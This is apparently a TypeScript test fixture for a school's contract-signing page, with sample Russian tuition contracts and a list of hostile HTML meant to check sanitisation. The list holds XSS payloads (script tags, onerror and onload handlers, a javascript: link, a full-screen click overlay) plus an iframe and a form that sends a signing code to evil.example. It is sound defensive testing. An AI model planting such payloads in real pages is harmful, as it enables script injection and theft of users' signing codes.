import type { ContractForSigning } from '@school/api-contract/contracts/contracts';
import type { SignatureStatus } from '@school/api-contract/rules/status-tables';

export const contract: ContractForSigning = {
  id: 12,
  contractNumber: '2026-00012',
  contractType: 'electronic_signature',
  status: 'sent',
  parentPhone: '+79161234567',
  studentName: 'Иванова Анна',
  parentName: 'Иванова Ольга',
  createdAt: '2026-11-20T10:00:00.000Z',
  content: '<h2>Предмет договора</h2><p>Занятия</p>',
  agreement: { version: 1, title: 'Соглашение', html: '<p>Текст соглашения</p>' },
  openSignature: null,
  newCodeInSeconds: 0,
};

const inFourMinutes = () => new Date(Date.now() + 240_000).toISOString();

/** A code that was sent. */
export const createOpenSignature = (signatureId: number) => ({ signatureId, expiresAt: inFourMinutes() });

/** The server's answer about the state of a signature. */
export const createSignatureSession = (status: SignatureStatus) => ({
  session: { status, attemptsLeft: status === 'exhausted' ? 0 : 4, expiresAt: inFourMinutes() },
});

const point = (number: string, text: string) => `<p>${number}. ${text}</p>`;

/** A contract with realistic length and sections, and with very long names. */
export const longContract: ContractForSigning = {
  ...contract,
  studentName: 'Рождественская-Воскресенская Екатерина-Александра Константиновна',
  parentName: 'Рождественская-Воскресенская Мария-Магдалина Владиславовна',
  content: [
    '<h1>Договор № 2026-00012 на оказание услуг по обучению</h1>',
    '<p class="subtitle">г. Москва</p>',
    '<p class="date">20 ноября 2026 г.</p>',
    '<h2>1. Предмет договора</h2>',
    point('1.1', 'Исполнитель проводит занятия по художественной гимнастике, а Заказчик их оплачивает.'),
    point(
      '1.2',
      'Занятия идут по понедельникам, средам и пятницам по адресу: г. Москва, Ленинградский проспект, д. 39, стр. 1.',
    ),
    '<h2>2. Права и обязанности сторон</h2>',
    '<ul><li>Исполнитель предоставляет зал, инвентарь и тренера.</li><li>Заказчик приводит ребенка здоровым и вовремя.</li></ul>',
    '<h2>3. Стоимость</h2>',
    '<table><thead><tr><th>Услуга</th><th>Занятий в месяц</th><th>Стоимость</th></tr></thead><tbody><tr><td>Абонемент</td><td>12</td><td>6 500 ₽</td></tr><tr><td>Разовое занятие</td><td>1</td><td>700 ₽</td></tr></tbody></table>',
    ...Array.from({ length: 12 }, (_each, index) =>
      point(
        `3.${index + 1}`,
        'Заказчик оплачивает абонемент до пятого числа каждого месяца по реквизитам Исполнителя.',
      ),
    ),
  ].join(''),
  agreement: {
    version: 1,
    title: 'Соглашение об использовании простой электронной подписи',
    html: '<p>1. Стороны признают код из SMS простой электронной подписью Заказчика (статьи 5, 6 и 9 Федерального закона № 63-ФЗ).</p><p>2. Заказчик не передает код другим людям.</p>',
  },
};

/** Attacks hidden in the text of a contract; any of them that runs sets `stolen` on the window. */
export const hostileContent = [
  '<h2>Предмет договора</h2>',
  '<script>window.stolen = "script"</script>',
  '<img src="missing.png" alt="печать" onerror="window.stolen = \'onerror\'">',
  '<a href="javascript:window.stolen=\'link\'">Приложение 1</a>',
  '<p style="position:fixed;inset:0;background:red" onclick="window.stolen = \'onclick\'">Занятия</p>',
  '<p class="date">20 ноября 2026 г.</p>',
  '<p class="date overlay">Приложение 2</p><div class="date">Приложение 3</div>',
  '<style>body { display: none }</style>',
  '<iframe src="https://evil.example" title="frame"></iframe>',
  '<form action="https://evil.example"><input name="code"><button>Подписать</button></form>',
  '<svg onload="window.stolen = \'svg\'"></svg>',
].join('');
